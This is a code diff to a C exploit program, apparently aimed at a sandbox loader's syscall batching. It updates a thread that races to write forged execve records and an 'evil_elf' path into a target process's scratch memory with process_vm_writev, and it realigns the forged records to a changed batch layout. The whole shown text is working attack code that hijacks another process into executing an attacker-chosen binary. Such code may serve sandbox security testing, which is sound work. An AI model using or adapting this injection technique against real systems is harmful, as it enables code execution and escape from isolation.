@@ -151,8 +151,9 @@ static void race_fork(long iterations, int mode)
     }
 }
 
-/* The stub's scratch memory, where the loader's batch records go (Kernel/Loader/StubProgram.cs): 64-byte records of
-   number, six arguments, flags. */
+/* The stub's scratch memory, where the loader's batch goes (Kernel/Loader/SyscallBatch.cs): its data, then 64-byte records
+   of number, six arguments, flags. The records start after a few words of data, so the writer shifts its fake records
+   by a word each time. */
 #define STUB_SCRATCH 0x100000001000UL
 static volatile pid_t batch_target;
 static volatile int batch_stop;
@@ -163,16 +164,17 @@ static void *batch_writer(void *unused)
     (void)unused;
     static uint64_t records[64 * 8];
     static char evil_path[4096];
-    uint64_t path_at = STUB_SCRATCH + sizeof records;
+    uint64_t path_at = STUB_SCRATCH + 0x8000;
     snprintf(evil_path, sizeof evil_path, "%s", C.evil_elf);
     for (int i = 0; i < 64; i++) {
         records[i * 8] = SYS_execve;
         records[i * 8 + 1] = path_at;
     }
     struct iovec local[2] = {{records, sizeof records}, {evil_path, strlen(evil_path) + 1}};
-    struct iovec remote[2] = {{(void *)STUB_SCRATCH, sizeof records}, {(void *)path_at, strlen(evil_path) + 1}};
-    while (!batch_stop) {
+    struct iovec remote[2] = {{NULL, sizeof records}, {(void *)path_at, strlen(evil_path) + 1}};
+    for (unsigned long n = 0; !batch_stop; n++) {
         pid_t pid = batch_target;
+        remote[0].iov_base = (void *)(STUB_SCRATCH + (n % 8) * 8);
         if (pid > 0 && process_vm_writev(pid, local, 2, remote, 2, 0) > 0) batch_writes++;
     }
     return NULL;
